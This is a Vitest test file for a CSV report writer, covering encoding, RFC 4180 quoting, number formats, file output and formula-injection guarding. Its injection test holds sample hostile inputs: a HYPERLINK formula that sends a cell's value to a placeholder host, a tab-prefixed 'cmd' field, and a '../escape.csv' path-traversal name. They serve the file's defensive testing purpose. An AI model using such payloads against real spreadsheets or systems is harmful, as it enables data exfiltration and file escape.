import { mkdtemp, readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { type ReportColumn, type ReportRow, writeCsvFiles, writeCsvSection } from '../../../src/reports/render/index.js';
import { FORMULA_TRIGGER_CHARACTERS } from '../../../src/reports/render/values/formula-guard.js';
import { parseCsv } from './support/csv-read.js';
import { injectionDocument, singleSectionDocument, timezoneDocument } from './support/fixtures.js';
import { renderToBuffer } from './support/output-sink.js';

async function csvText(document: Parameters<typeof writeCsvSection>[0], sectionKey = 'data'): Promise<string> {
  const bytes = await renderToBuffer((out) => writeCsvSection(document, sectionKey, out));
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return bytes.subarray(3).toString('utf8');
}

describe('writeCsvSection encoding', () => {
  it('starts with a BOM and ends records in CRLF', async () => {
    const text = await csvText(timezoneDocument(), 'store_days');
    expect(text).toBe(
      '门店编码,营业日,最后结账时间,销售额\r\n' +
        '0001,2024-01-31,2024-01-31 23:30:00,1280.50\r\n' +
        '0002,2024-02-01,2024-02-01 00:10:00,356.00\r\n',
    );
  });

  it('writes headers in the chosen language', async () => {
    const text = await csvText(timezoneDocument({ language: 'en' }), 'store_days');
    expect(parseCsv(text)[0]).toEqual(['Store code', 'Business date', 'Last checkout', 'Sales']);
  });

  it('quotes fields per RFC 4180', async () => {
    const columns: ReportColumn[] = [{ key: 'value', type: 'text', label: { en: 'Value', 'zh-CN': '值' } }];
    const cases = [
      { given: 'plain', want: 'plain' },
      { given: 'a,b', want: '"a,b"' },
      { given: 'say "hi"', want: '"say ""hi"""' },
      { given: 'two\nlines', want: '"two\nlines"' },
      { given: 'two\r\nlines', want: '"two\r\nlines"' },
      { given: '', want: '' },
    ];
    const text = await csvText(singleSectionDocument(columns, cases.map(({ given }) => ({ value: given }))));
    expect(text).toBe(`Value\r\n${cases.map(({ want }) => `${want}\r\n`).join('')}`);
    expect(parseCsv(text).slice(1).map(([field]) => field)).toEqual(cases.map(({ given }) => given));
  });

  it('writes empty cells as empty fields, never zero', async () => {
    const columns: ReportColumn[] = [
      { key: 'money', type: 'money_fen', label: { en: 'Money', 'zh-CN': '金额' } },
      { key: 'note', type: 'text', label: { en: 'Note', 'zh-CN': '备注' } },
    ];
    const text = await csvText(singleSectionDocument(columns, [{ money: null, note: null }]));
    expect(text).toBe('Money,Note\r\n,\r\n');
  });

  it('appends totals with a Total label', async () => {
    const document = singleSectionDocument(
      [
        { key: 'store', type: 'text', label: { en: 'Store', 'zh-CN': '门店' } },
        { key: 'money', type: 'money_fen', label: { en: 'Money', 'zh-CN': '金额' } },
      ],
      [
        { store: 'A', money: 100 },
        { store: 'B', money: -250 },
      ],
      { totals: { money: -150 } },
    );
    expect(await csvText(document)).toBe('Store,Money\r\nA,1.00\r\nB,-2.50\r\nTotal,-1.50\r\n');
  });
});

describe('writeCsvSection numbers', () => {
  const columns: ReportColumn[] = [
    { key: 'money', type: 'money_fen', label: { en: 'Money', 'zh-CN': '金额' } },
    { key: 'count', type: 'integer', label: { en: 'Count', 'zh-CN': '数量' } },
    { key: 'ratio', type: 'decimal', fractionDigits: 3, label: { en: 'Ratio', 'zh-CN': '比值' } },
    { key: 'share', type: 'percent', label: { en: 'Share', 'zh-CN': '占比' } },
  ];
  const cases = [
    { row: { money: -3600, count: -5, ratio: -1.25, share: -0.05 }, want: '-36.00,-5,-1.250,-5.0%' },
    { row: { money: 0, count: 0, ratio: 0, share: 0 }, want: '0.00,0,0.000,0.0%' },
    { row: { money: -1, count: 1234567, ratio: -0.0004, share: 0.1234 }, want: '-0.01,1234567,0.000,12.3%' },
    { row: { money: 123456789, count: 1, ratio: 2.5, share: 1 }, want: '1234567.89,1,2.500,100.0%' },
  ];

  it.each(cases)('writes $want without an apostrophe', async ({ row, want }) => {
    const text = await csvText(singleSectionDocument(columns, [row]));
    expect(text.split('\r\n')[1]).toBe(want);
  });
});

describe('writeCsvSection formula injection', () => {
  it('guards the field case and leaves amounts alone', async () => {
    const text = await csvText(injectionDocument(), 'work_orders');
    const lines = text.split('\r\n');
    expect(lines).toEqual([
      '门店名称,备注,金额,联系电话',
      `"'=HYPERLINK(""http://example.invalid/?x=""&A1,""点我"")",正常备注,-36.00,'+86 13800000000`,
      "'@门店群,'-折扣调整,0.00,021-00000000",
      "'\tcmd,'=1+1,12.50,",
      '',
    ]);
  });

  const cases = FORMULA_TRIGGER_CHARACTERS.flatMap((trigger) =>
    (['text', 'code'] as const).map((type) => ({ trigger, type, value: `${trigger}SUM(A1:A9)` })),
  );

  it.each(cases)('prefixes $type starting with $trigger in header, row and totals', async ({ type, value }) => {
    const columns: ReportColumn[] = [{ key: 'value', type, label: { en: value, 'zh-CN': value } }];
    const text = await csvText(singleSectionDocument(columns, [{ value }], { totals: { value } }));
    expect(parseCsv(text)).toEqual([[`'${value}`], [`'${value}`], [`'${value}`]]);
  });

  it('prefixes exactly the text that starts like a formula', async () => {
    const columns: ReportColumn[] = [{ key: 'value', type: 'text', label: { en: 'Value', 'zh-CN': '值' } }];
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'binary', maxLength: 12 }), { minLength: 1, maxLength: 8 }), async (values) => {
        const text = await csvText(singleSectionDocument(columns, values.map((value) => ({ value }))));
        const fields = parseCsv(text).slice(1).map(([field]) => field);
        const expected = values.map((value) => (FORMULA_TRIGGER_CHARACTERS.some((trigger) => value.startsWith(trigger)) ? `'${value}` : value));
        expect(fields).toEqual(expected);
      }),
      { numRuns: 200 },
    );
  });
});

describe('writeCsvFiles', () => {
  it('writes one file per section under the given names', async () => {
    const directory = await mkdtemp(join(tmpdir(), 'boh-csv-'));
    const document = timezoneDocument();
    const section = document.sections[0];
    if (!section) throw new Error('fixture has no section');
    const twoSections = { ...document, sections: [section, { ...section, key: 'copy' }] };

    const paths = await writeCsvFiles(twoSections, directory, { store_days: '2024-01-store-days.csv', copy: 'copy.csv' });

    expect(paths).toEqual([join(directory, '2024-01-store-days.csv'), join(directory, 'copy.csv')]);
    expect((await readdir(directory)).sort()).toEqual(['2024-01-store-days.csv', 'copy.csv']);
    expect((await readFile(paths[0] as string)).equals(await readFile(paths[1] as string))).toBe(true);
  });

  const badNames: Array<{ name: string; fileNames: Record<string, string> }> = [
    { name: 'missing name', fileNames: {} },
    { name: 'path separator', fileNames: { store_days: '../escape.csv' } },
    { name: 'empty name', fileNames: { store_days: '' } },
  ];

  it.each(badNames)('rejects a $name', async ({ fileNames }) => {
    const directory = await mkdtemp(join(tmpdir(), 'boh-csv-'));
    await expect(writeCsvFiles(timezoneDocument(), directory, fileNames)).rejects.toThrow(/Invalid CSV file names/);
    expect(await readdir(directory)).toEqual([]);
  });

  it('deletes the file of a section that failed', async () => {
    const directory = await mkdtemp(join(tmpdir(), 'boh-csv-'));
    const columns: ReportColumn[] = [{ key: 'money', type: 'money_fen', label: { en: 'Money', 'zh-CN': '金额' } }];
    const rows: ReportRow[] = [{ money: 100 }, { money: 1.5 }];
    await expect(writeCsvFiles(singleSectionDocument(columns, rows), directory, { data: 'data.csv' })).rejects.toThrow(
      /Invalid money_fen value 1.5 at section data, row 2, column money/,
    );
    expect(await readdir(directory)).toEqual([]);
  });
});

describe('row sources', () => {
  const columns: ReportColumn[] = [{ key: 'n', type: 'integer', label: { en: 'N', 'zh-CN': '数' } }];

  it('reads async iterables such as database cursors', async () => {
    async function* cursor(): AsyncGenerator<ReportRow> {
      yield { n: 1 };
      yield { n: -2 };
    }
    expect(await csvText(singleSectionDocument(columns, cursor()))).toBe('N\r\n1\r\n-2\r\n');
  });

  it('rejects a second read of a generator', async () => {
    function* once(): Generator<ReportRow> {
      yield { n: 1 };
    }
    const document = singleSectionDocument(columns, once());
    await csvText(document);
    await expect(renderToBuffer((out) => writeCsvSection(document, 'data', out))).rejects.toThrow(/already read/);
  });

  it('reads a re-iterable source once per writer', async () => {
    let reads = 0;
    const source = {
      *[Symbol.iterator](): Generator<ReportRow> {
        reads += 1;
        yield { n: reads };
      },
    };
    const document = singleSectionDocument(columns, source);
    expect(await csvText(document)).toBe('N\r\n1\r\n');
    expect(await csvText(document)).toBe('N\r\n2\r\n');
  });

  it('reports a missing cell with its location', async () => {
    const document = singleSectionDocument(columns, [{ n: 1 }, {}]);
    await expect(csvText(document)).rejects.toThrow('Invalid integer value undefined at section data, row 2, column n');
  });
});
